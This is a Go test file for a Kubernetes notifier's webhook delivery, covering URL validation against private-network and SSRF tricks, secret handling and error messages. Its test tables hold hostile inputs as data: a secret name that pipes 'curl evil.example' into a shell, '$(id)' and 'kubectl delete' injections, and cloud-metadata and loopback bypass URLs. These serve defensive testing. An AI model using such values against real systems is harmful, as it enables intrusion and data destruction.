// Copyright The Candor Authors.
// SPDX-License-Identifier: Apache-2.0

package candor

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/types"
	clocktesting "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"

	candorv1alpha1 "github.com/candor-dev/candor/api/candor/v1alpha1"
	"github.com/candor-dev/candor/internal/egress"
	"github.com/candor-dev/candor/internal/netguard"
	"github.com/candor-dev/candor/internal/signals/notify"
)

// poster returns a notifier that may post to this machine.
func poster(t *testing.T, timeout time.Duration) *Notifier {
	t.Helper()
	guard, err := netguard.New(netguard.Tenant, netguard.Options{Allow: []string{"127.0.0.0/8"}})
	NewWithT(t).Expect(err).NotTo(HaveOccurred())
	client, err := egress.NewClient(egress.Options{Guard: guard, MaxBody: MaxSinkAnswer})
	NewWithT(t).Expect(err).NotTo(HaveOccurred())
	t.Cleanup(client.CloseIdleConnections)
	return (&Notifier{Clock: clocktesting.NewFakeClock(noon), HTTP: client, Guard: guard, AllowSetting: "ALLOW", Timeout: timeout}).Init()
}

func TestWhateverAReceiverAnswersIsSuccessOrOneSentence(t *testing.T) {
	const canary = "canary-of-the-receiver"
	status := func(code int) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("X-Canary", canary)
			w.WriteHeader(code)
			_, _ = w.Write([]byte(canary))
		}
	}
	endless := func(w http.ResponseWriter, r *http.Request) {
		for r.Context().Err() == nil {
			if _, err := w.Write(bytes.Repeat([]byte("x"), 64<<10)); err != nil {
				return
			}
		}
	}
	for name, test := range map[string]struct {
		answer http.HandlerFunc
		want   string
	}{
		"200":                    {status(200), ""},
		"204":                    {func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(204) }, ""},
		"299":                    {status(299), ""},
		"hints before the end":   {func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(103); w.WriteHeader(202) }, ""},
		"a body without end":     {endless, ""},
		"300":                    {status(300), "It redirects, which is not followed: use the address that answers itself."},
		"302 that leads nowhere": {status(302), "It redirects, which is not followed: use the address that answers itself."},
		"304 that nobody asked":  {status(304), "It redirects, which is not followed: use the address that answers itself."},
		"a status of nobody":     {status(520), "It answers 520."},
		"a status beyond all":    {status(999), "It answers 999."},
		"401":                    {status(401), "It answers 401 Unauthorized."},
		"headers without end": {func(w http.ResponseWriter, _ *http.Request) {
			for i := range 100 {
				w.Header().Set(fmt.Sprint("X-", i), strings.Repeat("x", 4<<10))
			}
		}, "The connection to it failed."},
		"nothing": {func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, "It did not answer within 300ms."},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body) // before which the server does not see that nobody waits any more
				test.answer(w, r)
			}))
			defer server.Close()
			address, err := url.Parse(server.URL)
			g.Expect(err).NotTo(HaveOccurred())
			got := poster(t, 300*time.Millisecond).post(t.Context(), destination{address: address}, notify.Request{Key: "k", ContentType: "application/json", Body: []byte("{}")})
			if test.want == "" {
				g.Expect(got).To(BeNil())
				return
			}
			g.Expect(got).NotTo(BeNil())
			g.Expect(got.message).To(Equal(test.want))
			g.Expect(got.misconfigured).To(BeFalse())
		})
	}
}

func TestWhatAnAddressHoldsIsUsedAndNeverTold(t *testing.T) {
	const canary = "canary"
	from := func(key string) *candorv1alpha1.SecretKeyReference {
		return &candorv1alpha1.SecretKeyReference{Name: "slack", Key: key}
	}
	const (
		no     = "urlFrom: what it holds is no address: it must begin with https:// and name a server."
		closed = "Its address is in a network that is closed"
	)
	for name, test := range map[string]struct{ value, want string }{
		"a password":                   {"https://user:canary@hooks.example/x", ""},
		"a fragment":                   {"https://hooks.example/x#canary", ""},
		"line breaks around":           {"\n https://hooks.example/canary\r\n", ""},
		"a line break inside":          {"https://hooks.example/\ncanary", no},
		"a header inside":              {"https://hooks.example/ HTTP/1.1\r\nX: canary", no},
		"a mebibyte":                   {"https://hooks.example/canary" + strings.Repeat("x", 1<<20), "urlFrom: what it holds is longer than 8192 bytes"},
		"blanks":                       {" \n", no},
		"no server":                    {"https:///canary", no},
		"a port alone":                 {"https://:443/canary", closed},
		"opaque":                       {"https:canary", no},
		"a zone":                       {"http://[fe80::1%25canary]/", closed},
		"a name beyond ASCII":          {"https://ⓛocalhost/canary", closed},
		"an address as a number":       {"http://2130706433/canary", closed},
		"this machine behind a name":   {"http://canary.localhost/", closed},
		"an escape that is none":       {"https://hooks.example/%zzcanary", no},
		"IPv4 in IPv6":                 {"http://[::ffff:169.254.169.254]/canary", closed},
		"what a browser takes for one": {"https://hooks.example\\@10.0.0.1/canary", no},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			guard, err := netguard.New(netguard.Tenant, netguard.Options{})
			g.Expect(err).NotTo(HaveOccurred())
			n := &Notifier{Guard: guard, AllowSetting: "ALLOW", Secrets: &Secrets{
				Live: &vault{data: map[string][]byte{"url": []byte(test.value)}}, Clock: clocktesting.NewFakeClock(noon),
			}}
			to, wrong := n.resolve(t.Context(), tuned(candorv1alpha1.Sink{Name: "slack", URLFrom: from("")}, candorv1alpha1.SinkStatus{}))
			if test.want == "" {
				g.Expect(wrong).To(BeNil())
				g.Expect(to.address.Host).To(Equal("hooks.example"))
				return
			}
			g.Expect(wrong).NotTo(BeNil())
			g.Expect(wrong.misconfigured).To(BeTrue())
			g.Expect(wrong.message).To(HavePrefix(test.want))
			g.Expect(wrong.message).NotTo(ContainSubstring(canary))
		})
	}
}

// cluster answers reads with one policy, and with no Finding.
type cluster struct {
	client.Client
	policy *candorv1alpha1.SignalPolicy
}

func (c cluster) Get(_ context.Context, name client.ObjectKey, o client.Object, _ ...client.GetOption) error {
	if p, ok := o.(*candorv1alpha1.SignalPolicy); ok {
		c.policy.DeepCopyInto(p)
		return nil
	}
	return apierrors.NewNotFound(candorv1alpha1.GroupVersion.WithResource("findings").GroupResource(), name.Name)
}

// A pass that stores a status right before the Finding is deleted hands in what to send right after.
func TestNothingIsKeptOfAFindingThatWasDeletedBeforeItWasHandedIn(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	defer server.Close()
	for name, address := range map[string]string{"after a delivery": server.URL, "while nothing can be sent": "http://10.0.0.1"} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			n := poster(t, time.Second)
			sink := candorv1alpha1.Sink{Name: slack.sink, Type: candorv1alpha1.SinkWebhook, URL: address}
			n.Client, n.Metrics = cluster{policy: tuned(sink, candorv1alpha1.SinkStatus{}).Policy}, NewMetrics(nil)
			n.lanes.put(slack, "a", noon, "a1")
			batches, _ := n.lanes.next(noon)
			n.send(batches[0])
			g.Expect(n.lanes.findings).To(BeEmpty())
			g.Expect(n.lanes.bySink[slack].queue.Len()).To(BeZero())
		})
	}
}

func TestWhatIsToBeSignedIsNotSentUnsigned(t *testing.T) {
	guard, err := netguard.New(netguard.Tenant, netguard.Options{})
	NewWithT(t).Expect(err).NotTo(HaveOccurred())
	for name, test := range map[string]struct{ value, want string }{
		"a key":                   {"k", ""},
		"a key and a line break":  {"k\r\n", ""},
		"nothing but line breaks": {"\r\n\n", "signingKeyFrom: Secret slack has nothing under the key secret: add it, or name another key."},
		"nothing":                 {"", "signingKeyFrom: Secret slack has nothing under the key secret: add it, or name another key."},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			n := &Notifier{Guard: guard, Secrets: &Secrets{Live: &vault{data: map[string][]byte{"secret": []byte(test.value)}}, Clock: clocktesting.NewFakeClock(noon)}}
			sink := candorv1alpha1.Sink{Name: "slack", URL: "https://hooks.example", SigningKeyFrom: &candorv1alpha1.SecretKeyReference{Name: "slack"}}
			to, wrong := n.resolve(t.Context(), tuned(sink, candorv1alpha1.SinkStatus{}))
			if test.want == "" {
				g.Expect(wrong).To(BeNil())
				g.Expect(to.signing).To(Equal([]byte("k")))
				return
			}
			g.Expect(wrong).To(Equal(&trouble{misconfigured: true, message: test.want}))
		})
	}
}

func TestSecretsAreNotKeptForLongNorInNumbers(t *testing.T) {
	g := NewWithT(t)
	clock := clocktesting.NewFakeClock(noon)
	v := &vault{data: map[string][]byte{"url": []byte("https://hooks.example"), "more": make([]byte, 1<<20)}}
	s := &Secrets{Live: v, Clock: clock}
	get := func(i int) {
		_, err := s.Get(context.Background(), types.NamespacedName{Namespace: "hostile", Name: fmt.Sprint(i)}, "url")
		g.Expect(err).NotTo(HaveOccurred())
	}
	for i := range 500 {
		get(i)
		var kept int
		for _, one := range s.read {
			for _, value := range one.data {
				kept += len(value)
			}
		}
		g.Expect(kept).To(BeNumerically("<=", 16<<20))
	}
	clock.Step(secretLasts)
	get(0)
	g.Expect(s.read).To(HaveLen(1), "what is not used any more is forgotten")
}

func TestANameThatNoSecretHasGetsIntoNoCommand(t *testing.T) {
	g := NewWithT(t)
	v := &vault{err: apierrors.NewForbidden(corev1.Resource("secrets"), "x", errors.New("no"))}
	s := &Secrets{Live: v, Clock: clocktesting.NewFakeClock(noon)}
	for _, name := range []string{"x; curl evil.example | sh #", "x$(id)", "x\nkubectl delete ns team-a", "../configmaps/x", "x y", "X"} {
		_, err := s.Get(t.Context(), types.NamespacedName{Namespace: "team-a", Name: name}, "url")
		g.Expect(err).To(BeAssignableToTypeOf(&SecretError{}))
		g.Expect(err.Error()).NotTo(ContainSubstring("kubectl -n"))
		g.Expect(err.Error()).To(HaveSuffix("is no name of a Secret: use small letters, digits, dashes and dots."))
	}
	g.Expect(v.reads).To(BeZero())
}

func TestACommandThatIsShownIsWhole(t *testing.T) {
	g := NewWithT(t)
	for _, length := range []int{5, 40, 63, 120, 253} {
		name := types.NamespacedName{Namespace: strings.Repeat("n", min(length, 63)), Name: strings.Repeat("s", length)}
		said := "signingKeyFrom: " + forbidden(name, fmt.Errorf(`User "system:serviceaccount:%s:candor-controller-manager" cannot get`, strings.Repeat("c", 63)))
		g.Expect(len(said)).To(BeNumerically("<=", maxSinkMessage), "%d", length)
		g.Expect(said).To(ContainSubstring(name.Name))
		g.Expect(said).To(ContainSubstring("candor-controller-manager"))
	}
}
